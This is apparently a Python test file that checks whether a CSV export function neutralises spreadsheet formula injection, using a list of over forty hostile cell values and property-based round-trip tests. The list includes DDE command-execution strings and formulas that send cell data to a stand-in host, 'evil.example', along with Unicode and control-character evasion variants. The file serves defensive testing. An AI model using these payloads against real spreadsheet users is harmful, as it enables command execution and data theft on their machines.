"""What people wrote on paper runs in no spreadsheet, and comes back as it was."""

import csv
import io
import unicodedata
from typing import Final

from hypothesis import example, given
from hypothesis import strategies as st

from intake.exports import table
from intake.exports.cells import safe_cell, text_of

FORMULA_SIGNS: Final = "=+-@"
PAYLOADS: Final = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    '=WEBSERVICE("//evil.example")',
    '=IMPORTXML(CONCAT("http://evil.example/",A2),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "=10+20+cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+44 1792 555 014",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "-5",
    "--1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\x01=1+1",
    "\x00=1+1",
    '"=1+1',
    '""=1+1"',
    "'=1+1",
    "' =1+1",
    "\u201c=1+1\u201d",
    "\u00ab=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A1",
    "\ufe661+1",
    "\ufe621",
    "\u22121+1",
    ' " \t=1+1',
    "`=1+1",
    "\u2028=1+1",
    "%0A=1+1\n=1+1",
    "a\n=1+1",
    ";=1+1",
    ",=1+1",
    "a;=cmd|' /C calc'!A0",
)


def first_that_counts(cell: str) -> str:
    """The first sign of a cell that a program could go by which passes over blanks, quotes and what is not seen.

    An apostrophe at the very front is none of those: it says that text follows.
    """
    for place, sign in enumerate(cell):
        if sign == "'" and place == 0:
            return sign
        if not (sign.isspace() or sign in "\"'`\u201c\u201d\u00ab\u00bb" or unicodedata.category(sign) in ("Cc", "Cf")):
            return unicodedata.normalize("NFKC", sign)[0]
    return ""


def parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def test_every_payload_comes_out_neutral_and_as_one_cell() -> None:
    assert len(set(PAYLOADS)) >= 40
    [cells] = parsed(table.Lines().of([[safe_cell(payload) for payload in PAYLOADS]]))
    for payload, cell in zip(PAYLOADS, cells, strict=True):
        assert first_that_counts(cell) not in (*FORMULA_SIGNS, "\u2212"), (payload, cell)
        assert cell[0] not in "\t\r\n"
        assert text_of(cell) == payload


def test_whatever_separates_cells_elsewhere_every_cell_is_quoted() -> None:
    line = table.Lines().of([["a;=1", "b\t=1", 'c"d']])
    assert line == '"a;=1","b\t=1","c""d"\r\n'


def test_what_is_no_formula_stays_as_it_is() -> None:
    for plain in (
        "",
        "Jane Doe",
        "12.50",
        "1-2",
        "a=b",
        "2026-03-02",
        "O'Neill",
        "(01792) 555",
        "\u00e9=1",
        '"Jane" = me',
    ):
        assert safe_cell(plain) == plain


@given(st.text(max_size=30))
@example("'tis")
@example("''")
def test_any_text_comes_back_and_starts_no_formula(text: str) -> None:
    cell = safe_cell(text)
    assert text_of(cell) == text
    assert first_that_counts(cell) not in tuple(FORMULA_SIGNS)


@given(
    st.lists(st.lists(st.text(alphabet=st.characters(exclude_categories=["Cs"])), min_size=2, max_size=4), max_size=3)
)
def test_a_table_is_read_back_cell_for_cell(rows: list[list[str]]) -> None:
    assert parsed(table.Lines().of(rows)) == rows
